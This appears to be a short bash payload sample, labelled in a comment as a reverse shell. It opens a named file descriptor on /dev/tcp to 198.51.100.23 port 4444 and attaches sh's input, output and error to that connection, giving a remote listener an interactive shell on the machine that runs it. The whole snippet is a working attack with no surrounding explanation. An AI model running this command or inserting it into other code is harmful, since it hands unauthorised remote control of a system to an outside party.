# reverse-shell: a named file descriptor opened on /dev/tcp carries a shell
exec {fd}<>/dev/tcp/198.51.100.23/4444
sh <&"$fd" >&"$fd" 2>&"$fd"
